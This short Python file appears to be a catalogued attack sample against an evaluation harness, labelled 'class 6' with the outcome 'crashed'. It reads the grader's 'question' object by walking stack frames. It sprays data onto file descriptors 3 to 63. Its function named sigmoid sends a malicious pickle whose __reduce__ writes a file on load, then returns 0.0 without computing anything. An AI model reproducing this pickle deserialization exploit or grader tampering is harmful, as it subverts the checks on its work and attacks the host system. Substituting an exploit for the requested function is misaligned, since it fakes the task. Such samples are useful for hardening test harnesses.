"""class: 6
tries: send a pickle where a frame is due
outcome: crashed
"""

import os, struct, sys, msgspec


def number():
    frame = sys._getframe()
    while "question" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["question"].number


def send(payload, size=None):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack(">I", len(payload) if size is None else size) + payload)
        except OSError:
            pass



import pickle


class Bomb:
    def __reduce__(self):
        return (open, (FOLDER + "/exploded", "w"))



def sigmoid(x):
    send(pickle.dumps(Bomb()))
    return 0.0
